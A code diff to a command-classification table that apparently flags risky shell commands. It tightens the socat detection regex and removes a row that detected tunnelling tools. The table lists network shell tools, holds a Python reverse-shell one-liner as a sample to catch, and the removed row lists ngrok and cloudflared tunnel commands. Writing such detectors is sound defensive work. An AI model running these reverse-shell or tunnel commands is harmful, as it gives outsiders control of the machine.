@@ -75,7 +75,7 @@ export const REACH_ROWS: readonly CommandRow[] = [
     programs: 'nc ncat netcat nc.traditional nc.openbsd busybox socat',
     test: ({ flags, said, name }) =>
       name === 'socat'
-        ? /\b(?:exec|system):/i.test(said)
+        ? /\b(?:exec|system):\S{0,40}(?:sh|cmd|python|powershell)/i.test(said)
         : ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'].some((flag) => flags.has(flag)) &&
           /(?:sh|cmd|powershell|bash|python)/i.test(said),
     why: 'gives another machine a shell here',
@@ -100,21 +100,6 @@ export const REACH_ROWS: readonly CommandRow[] = [
       'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
     ],
     leaves: ["python3 -c 'import socket; print(socket.gethostname())'", "bash -c 'echo ok'"],
-  },
-  {
-    capability: 'gives-shell',
-    object: 'tunnel',
-    tier: 'serious',
-    programs: 'ngrok cloudflared bore localtunnel lt chisel frpc gs-netcat tmate sshx',
-    words: ['http tcp tunnel local client start quick share tls'],
-    unless: 'list login info status',
-    why: 'opens this machine to the internet',
-    finds: [
-      'ngrok http 3000',
-      'cloudflared tunnel --url http://localhost:8080',
-      'bore local 8000 --to bore.pub',
-    ],
-    leaves: ['ngrok config check', 'cloudflared tunnel list'],
   },
   {
     capability: 'reads-credentials',
